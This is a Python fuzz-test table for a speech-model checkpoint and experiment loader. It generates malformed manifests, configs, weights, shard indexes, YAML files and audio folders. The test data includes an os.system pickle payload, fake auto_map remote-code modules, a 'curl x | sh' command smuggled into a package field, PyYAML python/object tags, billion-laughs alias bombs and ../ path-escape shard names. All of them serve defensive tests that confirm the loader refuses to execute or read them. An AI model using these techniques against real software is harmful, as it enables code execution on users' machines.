"""The table of bad inputs: generated mutations of one small converted checkpoint, of a valid experiments file,
of a small audiofolder, and of command lines (issue 15, section 3, and the "no code execution from a checkpoint"
cases). Each case names what its error must mention; valid inputs assert their correct result instead."""

from __future__ import annotations

import json
import os
import shutil
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import safetensors.torch
import soundfile as sf
import torch

from .harness import MARKER, Case

MANIFEST, CONFIG, WEIGHTS = "mla_registry.json", "config.json", "model.safetensors"
INDEX = "model.safetensors.index.json"


@dataclass
class Env:
    """What every case starts from: a converted tiny checkpoint (``base``), its weights, a one-clip
    audiofolder (``clips``) and a scratch directory."""

    base: Path
    state: dict[str, torch.Tensor]
    clips: Path
    root: Path


# --- checkpoints ---------------------------------------------------------------------------------------------

def _copy(env: Env, d: Path) -> Path:
    out = d / "ckpt"
    shutil.copytree(env.base, out)
    return out


def ckpt(edit: Callable[[Path], None]) -> Callable[[Env, Path], Path]:
    """A copy of the base checkpoint, changed by ``edit(dir)``."""

    def make(env: Env, d: Path) -> Path:
        out = _copy(env, d)
        edit(out)
        return out

    return make


def json_edit(name: str, fn: Callable[[Any], Any]) -> Callable[[Path], None]:
    """Replace JSON file ``name`` by ``fn(its content)`` (``fn`` may edit in place and return None)."""

    def edit(p: Path) -> None:
        data = json.loads((p / name).read_text())
        new = fn(data)
        (p / name).write_text(json.dumps(data if new is None else new))

    return edit


def raw(name: str, content: bytes | str) -> Callable[[Path], None]:
    def edit(p: Path) -> None:
        if (p / name).is_dir():
            shutil.rmtree(p / name)
        (p / name).write_bytes(content if isinstance(content, bytes) else content.encode())

    return edit


def text_edit(name: str, fn: Callable[[str], str]) -> Callable[[Path], None]:
    def edit(p: Path) -> None:
        (p / name).write_text(fn((p / name).read_text()))

    return edit


def drop(key: str) -> Callable[[dict], None]:
    def fn(m: dict) -> None:
        del m[key]

    return fn


def each_slot(fn: Callable[[dict], Any]) -> Callable[[dict], None]:
    return lambda m: [fn(s) for s in m["slots"]] and None


def slot0(**changes: Any) -> Callable[[dict], None]:
    def fn(m: dict) -> None:
        for k, v in changes.items():
            if v is _DROP:
                m["slots"][0].pop(k, None)
            else:
                m["slots"][0][k] = v

    return fn


_DROP = object()


def tensors(fn: Callable[[dict[str, torch.Tensor]], None]) -> Callable[[Path], None]:
    def edit(p: Path) -> None:
        state = safetensors.torch.load_file(p / WEIGHTS)
        fn(state)
        safetensors.torch.save_file(state, p / WEIGHTS, metadata={"format": "pt"})

    return edit


def first_float(state: dict[str, torch.Tensor], part: str = "decoder.layers.0.self_attn") -> str:
    return next(k for k in sorted(state) if part in k and state[k].is_floating_point() and state[k].dim() == 2)


def poison(value: float, part: str) -> Callable[[dict], None]:
    def fn(state: dict) -> None:
        state[first_float(state, part)].view(-1)[3] = value

    return fn


def as_dtype(dtype: torch.dtype, part: str) -> Callable[[dict], None]:
    def fn(state: dict) -> None:
        k = first_float(state, part)
        state[k] = (state[k] * 100).to(dtype)

    return fn


def header_bytes(header: Any, body: bytes = b"") -> bytes:
    blob = json.dumps(header).encode() if not isinstance(header, bytes) else header
    return struct.pack("<Q", len(blob)) + blob + body


def sharded(index: Any, files: dict[str, str] | None = None) -> Callable[[Path], None]:
    """Split the weights into shards (``files``: shard name -> tensor-name part, the rest in ``rest``), then
    write ``index`` (a function of the true weight map, or a fixed value) as the shard index."""

    def edit(p: Path) -> None:
        state = safetensors.torch.load_file(p / WEIGHTS)
        (p / WEIGHTS).unlink()
        groups = {"model-00001-of-00002.safetensors": {}, "model-00002-of-00002.safetensors": {}}
        for k, v in state.items():
            groups["model-00001-of-00002.safetensors" if "encoder" in k else "model-00002-of-00002.safetensors"][k] = v
        wmap = {}
        for name, part in groups.items():
            safetensors.torch.save_file(part, p / name, metadata={"format": "pt"})
            wmap.update({k: name for k in part})
        data = index(wmap) if callable(index) else index
        (p / INDEX).write_text(data if isinstance(data, str) else json.dumps(data))

    return edit


def outside_shard(target: str) -> Callable[[Path], None]:
    """The encoder shard moved to ``target`` (relative to the checkpoint, or absolute with {parent}) and the
    index naming it there: a path that escapes the checkpoint directory must be refused, never read."""

    def edit(p: Path) -> None:
        sharded(lambda w: {"weight_map": w})(p)
        dest = Path(target.format(parent=p.parent))
        dest = dest if dest.is_absolute() else (p / dest)
        dest.parent.mkdir(parents=True, exist_ok=True)
        os.replace(p / "model-00001-of-00002.safetensors", dest.resolve())
        index = json.loads((p / INDEX).read_text())
        index["weight_map"] = {k: (target.format(parent=p.parent) if v.startswith("model-00001") else v)
                               for k, v in index["weight_map"].items()}
        (p / INDEX).write_text(json.dumps(index))

    return edit


def same_weights(model: Any, env: Env) -> None:
    state = model.state_dict()
    for k, v in env.state.items():
        assert k in state, f"{k} missing from the loaded model"
        assert torch.equal(state[k].float(), v.float()), f"{k} differs from the saved weights"


def close_weights(model: Any, env: Env) -> None:
    state = model.state_dict()
    for k, v in env.state.items():
        assert torch.allclose(state[k].float(), v.float(), atol=1e-2, rtol=1e-2), f"{k} differs"


def pickle_payload() -> bytes:
    import pickle

    class Evil:
        def __reduce__(self):
            return (os.system, (f"echo pickle > {MARKER}",))

    return pickle.dumps(Evil())


def remote_code(p: Path) -> None:
    """config.json asks for code of the checkpoint (auto_map / trustremote_code), and the code is there."""
    (p / "modeling_evil.py").write_text(f"open({MARKER!r}, 'w').write('auto_map')\n")
    (p / "configuration_evil.py").write_text(f"open({MARKER!r}, 'w').write('auto_map')\n")
    cfg = json.loads((p / CONFIG).read_text())
    cfg["auto_map"] = {"AutoConfig": "configuration_evil.EvilConfig",
                       "AutoModelForSpeechSeq2Seq": "modeling_evil.EvilModel"}
    cfg["trustremote_code"] = True
    (p / CONFIG).write_text(json.dumps(cfg))


def _plugin_named(name: str) -> Callable[[Path], None]:
    return json_edit(MANIFEST, slot0(plugin=name, package="mla-registry 0.1.0"))


def checkpoint_cases() -> list[Case]:
    out: list[Case] = []

    def add(cid: str, edit: Callable[[Path], None], *names: str, expect=None, warns=None, absent=()) -> None:
        out.append(Case(f"checkpoint/{cid}", "checkpoint", ckpt(edit), names, expect, warns, absent))

    # -- the manifest's shape
    for cid, text in [("manifest-list", "[1, 2]"), ("manifest-string", '"mla"'), ("manifest-number", "42"),
                      ("manifest-null", "null"), ("manifest-empty", ""), ("manifest-truncated", '{"format_version": 2'),
                      ("manifest-trailing", '{"format_version": 2} {}'), ("manifest-deep", "[" * 100000),
                      ("manifest-nan-version", '{"format_version": NaN, "slots": []}')]:
        add(cid, raw(MANIFEST, text), MANIFEST)
    add("manifest-binary", raw(MANIFEST, bytes(range(256)) * 8), MANIFEST)
    add("manifest-utf16", raw(MANIFEST, '{"format_version": 2, "slots": []}'.encode("utf-16")), MANIFEST)
    add("manifest-nul", raw(MANIFEST, b'{"format_version": 2, "slots": [], "x": "\x00"}\x00\x00'), MANIFEST)
    add("manifest-is-dir", lambda p: ((p / MANIFEST).unlink(), (p / MANIFEST).mkdir()), MANIFEST)
    for cid, value in [("written_by-string", "mla-registry 9"), ("written_by-list", ["mla-registry"]),
                       ("written_by-int", 7)]:
        add(cid, json_edit(MANIFEST, lambda m, v=value: m.update(written_by=v)), MANIFEST, "written_by")
    add("written_by-dict-of-ints", json_edit(MANIFEST, lambda m: m.update(written_by={"mla_registry": 1})), MANIFEST,
        "written_by")
    # a newer format may shape written_by differently: the format is what the message must name
    add("written_by-string-newer-format", json_edit(MANIFEST, lambda m: m.update(written_by="x", format_version=99)),
        MANIFEST, "format_version", "99")
    add("format-5000-digits", text_edit(MANIFEST, lambda t: t.replace('"format_version": 2', '"format_version": '
                                                                        + "9" * 5000)), MANIFEST, "format_version")
    for cid, value in [("format-string", "2"), ("format-float", 2.5),
                       ("format-negative", -1), ("format-zero", 0), ("format-newer", 3), ("format-list", [2]),
                       ("format-bool", True)]:
        add(cid, json_edit(MANIFEST, lambda m, v=value: m.update(format_version=v)), MANIFEST, "format_version")
    add("format-missing", json_edit(MANIFEST, drop("format_version")), MANIFEST, "format_version")
    add("slots-missing", json_edit(MANIFEST, drop("slots")), MANIFEST, "slots")
    for cid, value in [("slots-string", "decoder.*=mla"), ("slots-dict", {"a": 1}), ("slots-int", 3),
                       ("slots-null", None)]:
        add(cid, json_edit(MANIFEST, lambda m, v=value: m.update(slots=v)), MANIFEST, "slots")
    for cid, value in [("slot-string", "decoder.self.0"), ("slot-int", 5), ("slot-list", ["mla"]), ("slot-null", None)]:
        add(cid, json_edit(MANIFEST, lambda m, v=value: m["slots"].__setitem__(0, v)), MANIFEST, "slots[0]")
    for field_, values in {"plugin": [["mla"], 3, None, "", {"name": "mla"}],
                           "path": [["model"], 3, None, ""],
                           "package": [7, ["mla-registry"], {"name": "x"}],
                           "kwargs": [None, [16], "rank=16", 16],
                           "plugin_version": [[1], {"v": 1}],
                           "convert_kwargs": ["init=svd", [1]],
                           "slot": [5, ["x"]]}.items():
        for i, value in enumerate(values):
            add(f"slot-{field_}-{type(value).__name__}-{i}", json_edit(MANIFEST, slot0(**{field_: value})), MANIFEST,
                "slots[0]", field_)
    for field_ in ("path", "plugin"):
        add(f"slot-{field_}-missing", json_edit(MANIFEST, slot0(**{field_: _DROP})), MANIFEST, "slots[0]",
            f"'{field_}'")
    add("slot-kwargs-missing", json_edit(MANIFEST, slot0(kwargs=_DROP)), MANIFEST, "slots[0]", "rank")
    add("slot-path-unknown", json_edit(MANIFEST, slot0(path="model.decoder.layers.9.self_attn")), MANIFEST,
        "model.decoder.layers.9.self_attn")
    add("slot-path-dunder", json_edit(MANIFEST, slot0(path="__class__")), MANIFEST, "__class__")
    add("slot-duplicate-path", json_edit(MANIFEST, lambda m: m["slots"].append(dict(m["slots"][0]))), MANIFEST,
        "model.decoder.layers.0.self_attn")
    add("slot-rank-string", json_edit(MANIFEST, slot0(kwargs={"rank": "sixteen", "absorb": True})), MANIFEST,
        "rank", "sixteen")
    add("slot-rank-negative", json_edit(MANIFEST, slot0(kwargs={"rank": -4, "absorb": True})), MANIFEST, "rank")
    add("slot-rank-huge", json_edit(MANIFEST, slot0(kwargs={"rank": 10**12, "absorb": True})), MANIFEST, "rank")
    add("slot-kwarg-unknown", json_edit(MANIFEST, slot0(kwargs={"rank": 16, "absorb": True, "evil": 1})), MANIFEST,
        "evil")
    add("slot-rank-other", json_edit(MANIFEST, each_slot(lambda s: s["kwargs"].update(rank=8))), "rank", WEIGHTS)
    # the manifest's package is quoted verbatim as its claim, never turned into a command to run
    add("plugin-unknown", json_edit(MANIFEST, slot0(plugin="fancy", package="fancy-attn 2.0")), "fancy",
        "manifest says", "'fancy-attn 2.0'", absent=("pip install",))
    add("plugin-unknown-package-shell", json_edit(MANIFEST, slot0(plugin="fancy", package="evil; curl x | sh")),
        "fancy", "'evil; curl x | sh'", absent=("pip install",))
    add("plugin-version-newer", json_edit(MANIFEST, each_slot(lambda s: s.update(plugin_version="99"))),
        expect=same_weights, warns="99")
    add("plugin-version-garbage", json_edit(MANIFEST, each_slot(lambda s: s.update(plugin_version="@@"))),
        expect=same_weights)
    add("family-other", json_edit(MANIFEST, lambda m: m.update(family="llama")), MANIFEST, "llama")
    add("family-int", json_edit(MANIFEST, lambda m: m.update(family=3)), MANIFEST, "family")
    add("provenance-string", json_edit(MANIFEST, lambda m: m.update(provenance="x")), MANIFEST, "provenance")
    add("provenance-list", json_edit(MANIFEST, lambda m: m.update(provenance=[1])), MANIFEST, "provenance")
    add("provenance-finetunes-string", json_edit(MANIFEST, lambda m: m["provenance"].update(finetunes="x")), MANIFEST,
        "finetunes")
    add("manifest-unknown-keys", json_edit(MANIFEST, lambda m: m.update(extra={"a": 1})), expect=same_weights)
    add("manifest-absent-plain-hf", lambda p: (p / MANIFEST).unlink(), f"{MANIFEST} is absent", "k_up")

    # -- no code from the checkpoint runs
    for name in ("os.system", "os:system", "subprocess.call", "builtins.eval", "__import__",
                 "mla_registry.plugins.mla"):
        add(f"plugin-name-{name}", _plugin_named(name), name)
    add("pickle-beside-weights", raw("pytorch_model.bin", pickle_payload()), expect=same_weights)
    add("pickle-instead-of-weights", lambda p: ((p / WEIGHTS).unlink(), raw("pytorch_model.bin", pickle_payload())(p)),
        WEIGHTS)
    add("pickle-as-weights", raw(WEIGHTS, pickle_payload()), WEIGHTS)
    add("auto_map-trustremote_code", remote_code, expect=same_weights)

    # -- config.json
    for cid, text in [("config-invalid-json", "{d_model: 64"), ("config-empty", ""), ("config-list", "[]"),
                      ("config-string", '"whisper"'), ("config-deep", "[" * 100000)]:
        add(cid, raw(CONFIG, text), CONFIG)
    add("config-binary", raw(CONFIG, bytes(range(256)) * 4), CONFIG)
    add("config-is-dir", lambda p: ((p / CONFIG).unlink(), (p / CONFIG).mkdir()), CONFIG)
    for key, value in [("d_model", 10**12), ("vocab_size", 10**13), ("encoder_layers", 10**9),
                       ("decoder_ffn_dim", 10**12), ("max_source_positions", 10**11), ("max_target_positions", 10**11),
                       ("num_mel_bins", 10**11), ("encoder_attention_heads", 5), ("decoder_attention_heads", 3),
                       ("encoder_attention_heads", 0), ("d_model", 0), ("d_model", -64), ("d_model", "64"),
                       ("d_model", 64.5), ("encoder_layers", -1), ("decoder_layers", 0), ("vocab_size", None),
                       ("model_type", "bert"), ("decoder_attention_heads", True)]:
        named = "bert" if value == "bert" else key
        add(f"config-{key}-{value!s:.12}", json_edit(CONFIG, lambda c, k=key, v=value: c.update({k: v})), CONFIG,
            named)
    add("config-d_model-mismatch", json_edit(CONFIG, lambda c: c.update(d_model=128, encoder_attention_heads=4,
                                                                        decoder_attention_heads=4)), "d_model")
    add("config-unknown-keys", json_edit(CONFIG, lambda c: c.update(something_new=1)), expect=same_weights)
    add("generation-config-invalid", raw("generation_config.json", "{"), "generation_config.json")

    # -- weights
    for cid, content in [("weights-empty", b""), ("weights-random", os.urandom(4096)), ("weights-7-bytes", b"\x01" * 7),
                         ("weights-huge-header", struct.pack("<Q", 10**18) + b"{}"),
                         ("weights-header-past-end", struct.pack("<Q", 10_000) + b'{"a": 1}'),
                         ("weights-header-not-json", header_bytes(b"{not json}")),
                         ("weights-header-list", header_bytes([1, 2])),
                         ("weights-header-bad-dtype", header_bytes({"x": {"dtype": "Q9", "shape": [1],
                                                                          "data_offsets": [0, 4]}}, b"\0" * 4)),
                         ("weights-header-offsets", header_bytes({"x": {"dtype": "F32", "shape": [4],
                                                                       "data_offsets": [0, 1 << 40]}}, b"\0" * 16)),
                         ("weights-header-shape-lies", header_bytes({"x": {"dtype": "F32", "shape": [10**9, 10**9],
                                                                          "data_offsets": [0, 16]}}, b"\0" * 16))]:
        add(cid, raw(WEIGHTS, content), WEIGHTS)
    add("weights-truncated", lambda p: (p / WEIGHTS).write_bytes((p / WEIGHTS).read_bytes()[:-1000]), WEIGHTS,
        "truncated")
    add("weights-truncated-header", lambda p: (p / WEIGHTS).write_bytes((p / WEIGHTS).read_bytes()[:100]), WEIGHTS)
    add("weights-is-dir", lambda p: ((p / WEIGHTS).unlink(), (p / WEIGHTS).mkdir()), WEIGHTS)
    add("weights-missing", lambda p: (p / WEIGHTS).unlink(), WEIGHTS)
    for value, word in [(float("nan"), "nan"), (float("inf"), "inf"), (float("-inf"), "-inf")]:
        for part in ("decoder.layers.0.self_attn", "encoder.layers.1.fc1", "decoder.layers.1.encoder_attn"):
            add(f"weights-{word}-{part}", tensors(poison(value, part)), WEIGHTS, part)
    for dtype in (torch.int32, torch.int64, torch.int8, torch.bool, torch.uint8):
        add(f"weights-{dtype}".replace("torch.", ""), tensors(as_dtype(dtype, "decoder.layers.0.self_attn")), WEIGHTS,
            "decoder.layers.0.self_attn", str(dtype).replace("torch.", ""))
    add("weights-float16", tensors(lambda s: s.update({k: v.half() for k, v in s.items()})), expect=close_weights)
    add("weights-tensor-missing", tensors(lambda s: s.pop(first_float(s))), "decoder.layers.0.self_attn")
    add("weights-tensor-extra", tensors(lambda s: s.update(evil=torch.zeros(2))), "evil")
    add("weights-tensor-shape", tensors(lambda s: s.update({first_float(s): torch.zeros(3, 3)})),
        "decoder.layers.0.self_attn")
    # -- shard index
    add("shards-valid", sharded(lambda w: {"metadata": {}, "weight_map": w}), expect=same_weights)
    add("index-no-weight_map", sharded({"metadata": {}}), INDEX, "weight_map")
    add("index-weight_map-list", sharded(lambda w: {"weight_map": list(w.values())}), INDEX, "weight_map")
    add("index-weight_map-ints", sharded(lambda w: {"weight_map": {k: 1 for k in w}}), INDEX, "weight_map")
    add("index-list", sharded([1, 2]), INDEX)
    add("index-invalid-json", sharded("{weight_map"), INDEX)
    add("index-binary", lambda p: (sharded({})(p), raw(INDEX, os.urandom(512))(p)), INDEX)
    add("index-missing-file", sharded(lambda w: {"weight_map": {**w, "x.weight": "model-00009.safetensors"}}), INDEX,
        "model-00009.safetensors")
    add("index-empty-map", sharded({"weight_map": {}}), INDEX, "weight_map")
    add("index-dotdot", outside_shard("../stolen.safetensors"), INDEX, "../stolen.safetensors")
    add("index-dotdot-deep", outside_shard("sub/../../stolen.safetensors"), INDEX, "sub/../../stolen.safetensors")
    add("index-absolute", outside_shard("{parent}/abs.safetensors"), INDEX, "abs.safetensors")
    add("index-shard-is-dir", lambda p: (sharded(lambda w: {"weight_map": w})(p),
                                         (p / "model-00001-of-00002.safetensors").unlink(),
                                         (p / "model-00001-of-00002.safetensors").mkdir()), "model-00001-of-00002")
    add("index-shard-nan", lambda p: (sharded(lambda w: {"weight_map": w})(p),
                                      _poison_file(p / "model-00002-of-00002.safetensors")),
        "model-00002-of-00002.safetensors", "decoder")
    return out


def _model_and_processor(result: Any, env: Env) -> None:
    model, processor = result
    same_weights(model, env)
    assert processor.tokenizer.decode(processor.tokenizer(" hello world").input_ids, skip_special_tokens=True
                                      ).strip() == "hello world"


def model_cases() -> list[Case]:
    """The processor files beside the weights, loaded with the model (``model_refs.load``, what every command
    does)."""
    out = [Case("model/valid", "model", ckpt(lambda p: None), expect=_model_and_processor)]
    for name, content in [("tokenizer.json", "{garbage"), ("tokenizer.json", "[]"), ("tokenizer.json", b"\xff\xfe\0"),
                          ("tokenizer_config.json", "[1]"), ("tokenizer_config.json", ""),
                          ("processor_config.json", "{"), ("processor_config.json", "[]"),
                          ("processor_config.json", "[" * 100000)]:
        cid = f"model/{name}-{(content if isinstance(content, str) else 'binary')[:8] or 'empty'}"
        out.append(Case(cid, "model", ckpt(raw(name, content)), (name,)))
    return out


def _poison_file(path: Path) -> None:
    state = safetensors.torch.load_file(path)
    state[first_float(state, "decoder")].view(-1)[0] = float("nan")
    safetensors.torch.save_file(state, path, metadata={"format": "pt"})


# --- experiments YAML ---------------------------------------------------------------------------------------

def base_yaml(env: Env) -> dict[str, Any]:
    return {"name": "fuzz", "base_model": str(env.base), "output_dir": "runs",
            "data": {"test": str(env.clips), "calibration": str(env.clips), "calibration_size": 1, "limit": 1},
            "decoding": {"max_new_tokens": 8},
            "variants": [{"name": "mla", "attention": {"decoder.self": "mla:rank=16,init=svd"}}]}


def yaml_file(build: Callable[[Env], str | bytes | dict]) -> Callable[[Env, Path], Path]:
    def make(env: Env, d: Path) -> Path:
        import yaml

        content = build(env)
        path = d / "exp.yaml"
        if isinstance(content, dict):
            content = yaml.safe_dump(content, sort_keys=False)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    return make


def changed(fn: Callable[[dict], Any]) -> Callable[[Env], dict]:
    def build(env: Env) -> dict:
        doc = base_yaml(env)
        fn(doc)
        return doc

    return build


def _set(path: str, value: Any) -> Callable[[dict], None]:
    def fn(doc: dict) -> None:
        *parents, last = path.split(".")
        node = doc
        for p in parents:
            node = node[int(p)] if isinstance(node, list) else node.setdefault(p, {})
        if value is _DROP:
            node.pop(last)
        elif isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return fn


def _text(env: Env, body: str) -> str:
    return body.replace("BASE", str(env.base)).replace("CLIPS", str(env.clips))


HEAD = "base_model: BASE\ndata:\n  test: CLIPS\n  calibration: CLIPS\n"
VARIANT = "variants:\n  - name: mla\n    attention:\n      decoder.self: mla:rank=16,init=svd\n"


def _laughs(levels: int) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


def _experiment_ok(exp: Any, env: Env) -> None:
    assert [v.name for v in exp.variants] == ["mla"], exp.variants
    assert exp.variants[0].attention[0].plugin == "mla"
    assert exp.data.test_refs == [str(env.clips)]


def _merge_ok(exp: Any, env: Env) -> None:
    assert [v.name for v in exp.variants] == ["a", "b"]
    assert exp.variants[1].attention[0].kwargs == {"rank": "8", "init": "svd"}


def experiment_cases() -> list[Case]:
    out: list[Case] = []

    def add(cid: str, build: Callable[[Env], Any], *names: str, expect=None) -> None:
        out.append(Case(f"yaml/{cid}", "experiment", yaml_file(build), ("exp.yaml", *names), expect))

    add("valid", lambda e: base_yaml(e), expect=_experiment_ok)
    add("merge-keys", lambda e: _text(e, HEAD + "variants:\n  - &v {name: a, attention: {decoder.self: "
                                         "'mla:rank=16,init=svd'}}\n  - <<: *v\n    name: b\n    attention: "
                                         "{decoder.self: 'mla:rank=8,init=svd'}\n"), expect=_merge_ok)
    add("binary", lambda e: bytes(range(256)) * 16, "UTF-8")
    add("utf16", lambda e: _text(e, HEAD + VARIANT).encode("utf-16"), "UTF-8")
    add("nul-bytes", lambda e: b"name: x\x00\nvariants: []\n")
    add("empty", lambda e: "", "mapping")
    add("list", lambda e: "- a\n- b\n", "mapping")
    add("scalar", lambda e: "hello\n", "mapping")
    add("deep-lists", lambda e: "x: " + "[" * 5000 + "]" * 5000 + "\n", "deep")
    add("deep-maps", lambda e: "x: " + "{a: " * 5000 + "1" + "}" * 5000 + "\n", "deep")
    add("deep-block", lambda e: "".join("  " * i + f"k{i}:\n" for i in range(3000)), "deep")
    add("billion-laughs", lambda e: _laughs(9), "nodes")
    add("alias-bomb-in-variants", lambda e: _text(e, HEAD) + _laughs(7) + "variants: [*a6]\n", "nodes")
    add("tabs", lambda e: "data:\n\ttest: x\n", "YAML")
    add("unclosed", lambda e: "data: {test: x\n", "YAML")
    add("too-big", lambda e: "# " + "x" * (5 << 20) + "\n", "bytes")
    add("duplicate-variants", lambda e: _text(e, HEAD + VARIANT + "variants:\n  - name: other\n"), "variants",
        "line 5", ":9")
    add("duplicate-top", lambda e: _text(e, HEAD + "base_model: other\n" + VARIANT), "base_model", "line 1", ":5")
    add("duplicate-nested", lambda e: _text(e, HEAD + "  test: CLIPS\n" + VARIANT), "data.test", "line 3", ":5")
    add("duplicate-in-variant", lambda e: _text(e, HEAD + VARIANT + "    name: again\n"), "variants[0].name")
    for tag in ("!!python/object/apply:os.system ['touch CODE_RAN']", "!!python/name:os.system",
                "!!python/module:os", "!!python/object/new:os.system [x]"):
        add(f"python-tag-{tag.split()[0][2:]}", lambda e, t=tag: _text(e, HEAD) + f"name: {t}\n" + VARIANT, "python")
    for cid, path, value, names in [
        ("limit-negative", "data.limit", -1, ("data.limit", "-1")), ("limit-zero", "data.limit", 0, ("data.limit",)),
        ("limit-string", "data.limit", "ten", ("data.limit", "ten")),
        ("limit-float", "data.limit", 1.5, ("data.limit",)),
        ("device-quantum", "device", "quantum", ("device", "quantum")), ("device-cuda", "device", "cuda", ("cuda",)),
        ("device-cuda-99", "device", "cuda:99", ("cuda:99",)), ("device-int", "device", 0, ("device",)),
        ("dtype-unknown", "dtype", "float8", ("dtype", "float8")), ("dtype-int", "dtype", 16, ("dtype",)),
        ("max-new-tokens-huge", "decoding.max_new_tokens", 100000, (": decoding.max_new_tokens:", "100000")),
        ("max-new-tokens-zero", "decoding.max_new_tokens", 0, ("max_new_tokens",)),
        ("max-new-tokens-negative", "decoding.max_new_tokens", -5, ("max_new_tokens",)),
        ("batch-size-zero", "decoding.batch_size", 0, ("batch_size",)),
        ("beams-zero", "decoding.num_beams", 0, ("num_beams",)),
        ("decoding-unknown-key", "decoding.temperature", 0.5, ("temperature",)),
        ("decoding-list", "decoding", [1], ("decoding",)),
        ("task-unknown", "decoding.task", "summarise", ("summarise",)),
        ("language-fr-english-only", "decoding.language", "fr", (": decoding.language:",)),
        ("variants-empty", "variants", [], ("variants",)), ("variants-mapping", "variants", {"a": 1}, ("variants",)),
        ("variants-string", "variants", "mla", ("variants",)), ("variants-missing", "variants", _DROP, ("variants",)),
        ("variant-string", "variants.0", "mla", ("variants[0]",)),
        ("variant-no-name", "variants.0.name", _DROP, ("variants[0].name",)),
        ("variant-name-dotdot", "variants.0.name", "../x", ("variants[0].name",)),
        ("variant-name-int", "variants.0.name", 3, ("variants[0].name",)),
        ("variant-unknown-key", "variants.0.colour", "red", ("colour",)),
        ("variant-attention-list", "variants.0.attention", ["mla"], ("variants[0].attention",)),
        ("variant-plugin-unknown", "variants.0.attention", {"decoder.self": "nope:rank=1"}, ("nope",)),
        ("variant-plugin-os-system", "variants.0.attention", {"decoder.self": "os.system:x=1"}, ("os.system",)),
        ("variant-kwarg-unknown", "variants.0.attention", {"decoder.self": "mla:rank=16,evil=1"}, ("evil",)),
        ("variant-rank-zero", "variants.0.attention", {"decoder.self": "mla:rank=0"}, ("rank",)),
        ("variant-rank-text", "variants.0.attention", {"decoder.self": "mla:rank=big"}, ("rank", "big")),
        ("variant-selector-none", "variants.0.attention", {"decoder.self.7": "mla:rank=16"}, ("decoder.self.7",)),
        ("variant-selector-bad", "variants.0.attention", {"decoder[[": "mla:rank=16"}, ("decoder[[",)),
        ("variant-model-and-attention", "variants.0.model", "x", ("variants[0]",)),
        ("variant-finetune-string", "variants.0.finetune", "yes", ("finetune",)),
        ("baseline-unknown", "baseline", "ghost", ("ghost",)), ("name-dotdot", "name", "../../etc", ("name",)),
        ("data-missing", "data", _DROP, ("data",)), ("data-test-missing", "data.test", _DROP, ("data.test",)),
        ("data-test-nowhere", "data.test", "/nonexistent/clips", ("/nonexistent/clips",)),
        ("data-test-int", "data.test", 5, ("data.test",)), ("data-test-builtin-nope", "data.test", "builtin:nope",
                                                             ("builtin:nope",)),
        ("encoder-cache-negative", "encoder_cache_gib", -1, ("encoder_cache_gib",)),
        ("top-unknown-key", "colour", "red", ("colour",)),
        ("base-model-nowhere", "base_model", "/nonexistent/model", ("base_model",)),
        ("calibration-size-zero", "data.calibration_size", 0, ("calibration_size",)),
    ]:
        add(cid, changed(_set(path, value)), *names)
    return out


# --- audio and dataset references ---------------------------------------------------------------------------

def _tone(seconds: float = 1.0, rate: int = 16000) -> np.ndarray:
    # a cosine: even a one-sample clip is loud (a sine's first sample is 0, which the silence check would catch)
    return (0.3 * np.cos(2 * np.pi * 220 * np.arange(round(seconds * rate)) / rate)).astype(np.float32)


def clip_dir(d: Path, files: dict[str, Any] | None = None, meta: str | bytes | None = None) -> Path:
    """An audiofolder: ``files`` name -> samples (float array), raw bytes, or None (no file); ``meta`` the
    metadata.csv (default: one row per file)."""
    d.mkdir(parents=True, exist_ok=True)
    files = {"a.wav": _tone()} if files is None else files
    for name, content in files.items():
        if isinstance(content, bytes):
            (d / name).write_bytes(content)
        elif content is not None:
            sf.write(d / name, content, 16000, subtype="FLOAT" if content.dtype == np.float32 else "PCM_16")
    if meta is None:
        meta = "file_name,transcription\n" + "".join(f"{n},hello world\n" for n in files)
    (d / "metadata.csv").write_bytes(meta if isinstance(meta, bytes) else meta.encode())
    return d


def folder(files=None, meta=None, kw: dict | None = None, csv: bool = False) -> Callable[[Env, Path], Any]:
    def make(env: Env, d: Path) -> Any:
        root = clip_dir(d / "clips", files, meta)
        ref = str(root / "metadata.csv") if csv else str(root)
        return (ref, kw) if kw else ref

    return make


def _one_utt(text: str = "hello world") -> Callable[[Any, Env], None]:
    def check(utts: Any, env: Env) -> None:
        assert len(utts) == 1, f"{len(utts)} utterances"
        assert utts[0].text == text, utts[0].text
        assert utts[0].id == "a", utts[0].id
        assert utts[0].audio.shape == (16000,), utts[0].audio.shape

    return check


def data_cases() -> list[Case]:
    out: list[Case] = []

    def add(cid: str, make, *names: str, expect=None) -> None:
        out.append(Case(f"data/{cid}", "data", make, names, expect))

    add("valid", folder(), expect=_one_utt())
    bom = b"\xef\xbb\xbffile_name,transcription\na.wav,hello world\n"
    add("metadata-bom", folder(meta=bom), expect=_one_utt())
    add("csv-bom", folder(meta=bom, csv=True), expect=_one_utt())
    add("metadata-crlf", folder(meta="file_name,transcription\r\na.wav,hello world\r\n"), expect=_one_utt())
    add("one-sample", folder({"a.wav": _tone(1 / 16000)}), "a.wav", "short")
    add("one-sample-csv", folder({"a.wav": _tone(1 / 16000)}, csv=True), "a.wav", "short")
    add("ten-ms", folder({"a.wav": _tone(0.01)}), "a.wav", "short")
    add("one-sample-skip-bad-all", folder({"a.wav": _tone(1 / 16000)}, kw={"skip_bad": True}), "a.wav")
    add("empty-wav", folder({"a.wav": np.zeros(0, np.float32)}), "a.wav")
    add("zero-byte", folder({"a.wav": b""}), "a.wav")
    add("random-bytes", folder({"a.wav": os.urandom(2048)}), "a.wav")
    add("text-as-wav", folder({"a.wav": b"hello, I am not audio\n" * 50}), "a.wav")
    add("truncated-header", folder({"a.wav": b"RIFF\x24\x00\x00\x00WAVEfmt "}), "a.wav")
    add("silent", folder({"a.wav": np.zeros(16000, np.float32)}), "a.wav", "silent")
    add("nan-samples", folder({"a.wav": np.full(16000, np.nan, np.float32)}), "a.wav")
    add("inf-samples", folder({"a.wav": np.full(16000, np.inf, np.float32)}), "a.wav")
    add("missing-file", folder({"a.wav": None}), "a.wav")
    add("all-bad-skip-bad", folder({"a.wav": b"", "b.wav": os.urandom(100)}, kw={"skip_bad": True}), "a.wav")
